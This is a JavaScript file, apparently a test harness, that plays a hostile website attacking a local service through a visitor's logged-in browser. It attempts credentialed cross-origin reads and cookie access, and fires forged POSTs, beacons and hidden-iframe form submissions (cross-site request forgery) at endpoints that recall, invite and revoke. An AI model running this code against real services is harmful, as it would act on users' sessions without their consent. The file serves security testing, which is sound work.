// What a page of another site can do in the browser of somebody who is let in. It says
// what opened, and how many requests were sent whose answers it cannot see.
async function hostile(target) {
  const opened = [];
  // Each attempt ends by an event; the time is only for a browser that tells none.
  const ends = (what) => Promise.race([what, new Promise((done) => setTimeout(() => done(false), 60000))]);
  const attempt = async (name, what) => {
    if (await ends(what().then((open) => open, () => false))) opened.push(name);
  };
  const element = (tag, attributes) => () => new Promise((done) => {
    const e = document.createElement(tag);
    e.onload = () => done(true);
    e.onerror = () => done(false);
    for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
    document.body.append(e);
  });
  const stream = (path) => () => new Promise((done) => {
    const events = new EventSource(target + path, { withCredentials: true });
    events.onopen = () => { events.close(); done(true); };
    events.onerror = () => { events.close(); done(false); };
  });
  const read = (path, more) => () => fetch(target + path, { credentials: "include", ...more }).then((got) => got.text()).then(() => true);

  for (const path of ["/", "/sessions", "/api/status", "/api/history", "/metrics", "/page/page.js"]) await attempt("read " + path, read(path));
  await attempt("write with headers of its own", read("/api/act", {
    method: "POST", body: '{"do":"recall","session":"second"}',
    headers: { "Content-Type": "application/json", "X-Bayhand-Token": "x", "X-Bayhand-Who": "root" },
  }));
  for (const path of ["/api/events", "/changes"]) await attempt("stream " + path, stream(path));
  await attempt("script", element("script", { src: target + "/page/page.js" }));
  await attempt("module", () => import(target + "/page/say.js").then(() => true));
  await attempt("style", element("link", { rel: "stylesheet", href: target + "/page/page.css" }));
  await attempt("picture", element("img", { src: target + "/page/icon.svg" }));
  if (document.cookie !== "") opened.push("cookie " + document.cookie);

  let sent = 0;
  const form = "do=recall&session=second&token=";
  const json = '{"do":"recall","session":"second"}';
  const bodies = () => [json, new URLSearchParams(form), new Blob([form], { type: "text/plain" }), Object.entries({ do: "recall", session: "second" }).reduce((all, [k, v]) => (all.append(k, v), all), new FormData())];
  for (const path of ["/do", "/draw", "/listen", "/invite", "/api/act", "/api/prune", "/api/invite", "/api/revoke"]) {
    for (const body of bodies()) {
      await ends(fetch(target + path, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {}));
      sent++;
    }
    navigator.sendBeacon(target + path, new URLSearchParams(form));
    sent++;
  }
  for (const path of ["/do", "/api/act"]) {
    for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
      await ends(submitted(target + path, enctype));
      sent++;
    }
  }
  await element("iframe", { src: target + "/" })();
  await element("iframe", { src: target + "/sessions", sandbox: "allow-scripts allow-same-origin allow-forms" })();
  return JSON.stringify({ opened, sent });
}

// submitted sends a form into a frame, as a page does that wants nobody to see it.
function submitted(action, enctype, to) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action, enctype, target: to || frame.name });
    for (const [name, value] of [["do", "recall"], ["session", "second"], ["token", ""]]) {
      const field = document.createElement("input");
      Object.assign(field, { type: "hidden", name, value });
      form.append(field);
    }
    document.body.append(frame, form);
    frame.onload = () => { frame.remove(); form.remove(); done(); };
    form.submit();
  });
}
